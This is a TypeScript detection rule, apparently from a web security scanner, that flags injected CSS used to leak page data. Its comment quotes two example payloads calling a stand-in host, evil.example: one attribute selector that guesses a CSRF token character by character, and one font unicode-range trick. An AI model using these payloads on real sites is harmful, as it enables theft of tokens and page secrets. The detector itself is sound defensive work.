/**
 * @module core/signatures/css-exfiltration
 * CSS injected to read a page, not to style it: attribute selectors that
 * match a secret's first characters and fetch a URL for each guess
 * (`input[name=csrf][value^=7]{background:url(//evil.example/?p=7)}`), or a
 * web font whose `unicode-range` makes the browser fetch one URL per
 * character present (`@font-face{src:url(//evil/?a);unicode-range:U+0061}`).
 * No script runs, so the XSS rules see none; a theme editor's stylesheet
 * styles by class and element, and fetches fonts without either shape (941140).
 */

/** The value is CSS that leaks a page's text or attribute values to a URL. */
export function cssExfiltration(value: string): boolean {
  if (value.length < 12 || !value.includes("{")) return false;
  const v = value.slice(0, 8192).toLowerCase();
  if (!v.includes("url(")) return false;
  return /\[value[\^$*~|]?=/.test(v) || v.includes("unicode-range");
}
